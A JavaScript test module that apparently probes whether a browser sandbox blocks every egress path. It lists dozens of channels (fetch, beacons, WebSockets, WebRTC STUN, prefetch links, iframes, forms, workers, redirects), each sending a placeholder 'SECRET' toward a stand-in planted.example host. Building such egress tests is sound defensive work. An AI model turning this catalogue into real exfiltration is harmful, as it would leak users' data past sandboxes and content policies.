/**
 * Every way that we know by which a script may make a browser ask for a name, connect or send. A hostile script runs all
 * of them, wherever it is: a worker has no document, so that most cannot even begin there. Each asks for a name of its
 * own, `<way>.SECRET.planted.example`, so that a name seen outside says which way it took. SECRET is filled in.
 */
const waysOut = (() => {
  const nameOf = (way) => `${way}.SECRET.planted.example`;
  const address = (way) => `https://${nameOf(way)}/${way}`;
  const literal = "203.0.113.7"; // somewhere that no name leads to
  const PATIENCE_MS = 3000; // for a way that neither ends nor fails
  const make = (tag, properties, parent = document.body ?? document.documentElement) => parent.appendChild(Object.assign(document.createElement(tag), properties));
  const link = (rel, more = {}) => (way) => void make("link", { rel, href: address(way), ...more }, document.head);
  const click = (properties) => (way) => make("a", { href: address(way), textContent: way, ...properties(way) }).click();
  const load = (tag, key, more = {}) => (way) =>
    new Promise((resolve) => make(tag, { [key]: address(way), onload: resolve, onerror: resolve, ...more }));
  const ended = (target, ...events) => new Promise((resolve) => events.forEach((event) => target.addEventListener(event, resolve)));
  // A script in place of ours may make the one policy for trusted texts that the frame allows; see hostile_frame.js.
  const trustedScript = (text) => globalThis.trusted?.createScriptURL(text) ?? text;
  const trustedMarkup = (text) => globalThis.trusted?.createHTML(text) ?? text;
  const inFrame = (content) => (way) => ended(make("iframe", { srcdoc: trustedMarkup(content(address(way))) }), "load");
  const pinned = typeof document === "undefined" ? "" : document.currentScript?.textContent ?? ""; // the one text that may run
  const inOwnFrame = (way) => ended(make("iframe", { srcdoc: trustedMarkup(`<html data-way=${way}><body><script>${pinned}</${"script"}>`) }), "load");
  const peer = (url) => async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: url }] });
    connection.createDataChannel("way");
    await connection.setLocalDescription(await connection.createOffer());
    await ended(connection, "icegatheringstatechange");
  };
  const own = (text) => trustedScript(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));

  /** What a worker may try as well. @type {Record<string, (way: string) => unknown>} */
  const anywhere = {
    fetch: (way) => fetch(address(way), { mode: "no-cors" }),
    "fetch-post": (way) => fetch(address(way), { method: "POST", mode: "no-cors", keepalive: true, body: "SECRET" }),
    "fetch-literal": () => fetch(`https://${literal}/SECRET`, { mode: "no-cors" }),
    "fetch-later": (way) => void fetchLater(address(way), { activateAfter: 0 }),
    xhr: (way) => { const request = new XMLHttpRequest(); request.open("GET", address(way)); request.send(); return ended(request, "loadend"); },
    "xhr-sync": (way) => { const request = new XMLHttpRequest(); request.open("GET", address(way), false); request.send(); },
    beacon: (way) => void navigator.sendBeacon(address(way), "SECRET"),
    socket: (way) => ended(new WebSocket(address(way).replace("https", "wss")), "error", "close"),
    "socket-stream": (way) => new WebSocketStream(address(way).replace("https", "wss")).opened,
    events: (way) => { const source = new EventSource(address(way)); return ended(source, "error").then(() => source.close()); },
    transport: (way) => new WebTransport(address(way)).ready,
    "dynamic-import": (way) => import(address(way)),
    "import-scripts": (way) => void importScripts(address(way)),
    worker: (way) => ended(new Worker(address(way)), "error", "message"),
    "module-worker": (way) => ended(new Worker(address(way), { type: "module" }), "error", "message"),
    "shared-worker": (way) => ended(new SharedWorker(address(way)), "error"),
    "worker-import": (way) => ended(new Worker(own(`try { importScripts("${address(way)}") } catch {} postMessage(1)`)), "error", "message"),
    "worker-fetch": (way) => ended(new Worker(own(`fetch("${address(way)}").catch(() => {}).finally(() => postMessage(1))`)), "error", "message"),
    "worker-module-import": (way) => ended(new Worker(own(`import "${address(way)}"; postMessage(1)`), { type: "module" }), "error", "message"),
    "service-worker": (way) => navigator.serviceWorker.register(address(way)),
    font: (way) => new FontFace("way", `url(${address(way)})`).load(),
    "canvas-filter": (way) => {
      const context = new OffscreenCanvas(8, 8).getContext("2d");
      context.filter = `url(${address(way)}#way)`;
      context.fillRect(0, 0, 8, 8);
    },
    rtc: (way) => peer(`stun:${nameOf(way)}:3478`)(),
    "rtc-literal": peer(`stun:${literal}:3478`),
    notification: (way) => void new Notification("way", { icon: address(way), image: address(way) }),
    "background-fetch": (way) => navigator.serviceWorker.ready.then((worker) => worker.backgroundFetch.fetch(way, address(way))),
    "own-location": (way) => { if (typeof document === "undefined") self.location = address(way); },
  };

  /** What needs a document. @type {Record<string, (way: string) => unknown>} */
  const inDocument = {
    "dns-prefetch": link("dns-prefetch"),
    preconnect: link("preconnect"),
    prefetch: link("prefetch"),
    "preload-image": link("preload", { as: "image" }),
    "preload-fetch": link("preload", { as: "fetch", crossOrigin: "anonymous" }),
    "preload-font": link("preload", { as: "font", crossOrigin: "anonymous" }),
    modulepreload: link("modulepreload"),
    prerender: link("prerender"),
    icon: link("icon"),
    manifest: link("manifest"),
    stylesheet: link("stylesheet"),
    "speculation-rules": (way) => {
      const rules = make("script", { type: "speculationrules" });
      rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [address(way)], eagerness: "immediate" }] });
    },
    "anchor-prefetch": (way) => {
      make("meta", { httpEquiv: "x-dns-prefetch-control", content: "on" }, document.head);
      make("a", { href: address(way), textContent: way });
    },
    image: load("img", "src"),
    srcset: load("img", "srcset"),
    "input-image": load("input", "src", { type: "image" }),
    video: load("video", "src", { preload: "auto" }),
    poster: (way) => void make("video", { poster: address(way) }),
    audio: load("audio", "src", { preload: "auto" }),
    track: (way) => {
      const video = make("video", {});
      const track = make("track", { src: address(way), kind: "subtitles", default: true }, video);
      track.track.mode = "showing";
    },
    script: load("script", "src"),
    "module-script": load("script", "src", { type: "module" }),
    object: load("object", "data"),
    embed: load("embed", "src"),
    iframe: (way) => void make("iframe", { src: address(way) }),
    "srcdoc-dns-prefetch": inFrame((to) => `<link rel=dns-prefetch href=${to}>`),
    "srcdoc-preconnect": inFrame((to) => `<link rel=preconnect href=${to}>`),
    "srcdoc-refresh": inFrame((to) => `<meta http-equiv=refresh content="0;url=${to}">`),
    "srcdoc-image": inFrame((to) => `<img src=${to}>`),
    "srcdoc-iframe": inFrame((to) => `<iframe src=${to}></iframe>`),
    "blob-iframe": (way) => void make("iframe", { src: URL.createObjectURL(new Blob([`<link rel=dns-prefetch href=${address(way)}>`], { type: "text/html" })) }),
    "data-iframe": (way) => void make("iframe", { src: `data:text/html,<link rel=dns-prefetch href=${address(way)}>` }),
    "css-background": (way) => void (make("div", { textContent: way }).style.background = `url(${address(way)})`),
    "css-sheet": (way) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${address(way)}) }`);
      document.adoptedStyleSheets = [sheet];
    },
    "svg-use": (way) => {
      const svg = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
      for (const tag of ["use", "image"]) svg.appendChild(document.createElementNS(svg.namespaceURI, tag)).setAttribute("href", `${address(way)}#way`);
    },
    "media-session": (way) => void (navigator.mediaSession.metadata = new MediaMetadata({ title: way, artwork: [{ src: address(way) }] })),
    worklet: (way) => CSS.paintWorklet.addModule(address(way)),
    "audio-worklet": (way) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(address(way)),
    payment: (way) => new PaymentRequest([{ supportedMethods: address(way) }], { total: { label: way, amount: { currency: "XXX", value: "1" } } }).canMakePayment(),
    credential: (way) => navigator.credentials.get({ identity: { providers: [{ configURL: address(way), clientId: "way" }] } }),
    "new-window-link": click(() => ({ target: "_blank" })),
    "form-new-window": (way) => make("form", { action: address(way), target: "_blank" }).submit(),
    "window-open": (way) => void window.open(address(way)),
    "top-location": (way) => void (top.location = address(way)),
    "leave-download": inOwnFrame,
    "leave-link": inOwnFrame,
    "leave-ping": inOwnFrame,
    "leave-form": inOwnFrame,
    "leave-location": inOwnFrame,
    "leave-refresh": inOwnFrame,
  };

  /** What takes the document away. @type {Record<string, (way: string) => unknown>} */
  const leaving = {
    download: click(() => ({ download: "way" })),
    link: click(() => ({})),
    ping: click((way) => ({ href: "#here", ping: address(way) })),
    form: (way) => make("form", { action: address(way), method: "post" }).submit(),
    location: (way) => void (location = address(way)),
    refresh: (way) => void make("meta", { httpEquiv: "refresh", content: `0;url=${address(way)}` }, document.head),
  };

  const patience = () => new Promise((resolve) => setTimeout(resolve, PATIENCE_MS, "no end"));
  const attempt = async (way, start) => {
    try {
      return (await Promise.race([start(way), patience()])) === "no end" ? "no end" : "ended";
    } catch (error) {
      return String(error);
    }
  };
  return {
    /** @param {string} place stands before each name @returns {Promise<Record<string, string>>} what became of each try */
    all: async (place) => {
      const tries = Object.entries({ ...anywhere, ...inDocument }).map(([way, start]) => [`${place}${way}`, start]);
      return Object.fromEntries(await Promise.all(tries.map(async ([way, start]) => [way, await attempt(way, start)])));
    },
    /** In a document that only one try shall take away. @param {string} way */
    leave: (way) => leaving[way.replace("leave-", "")](way),
  };
})();
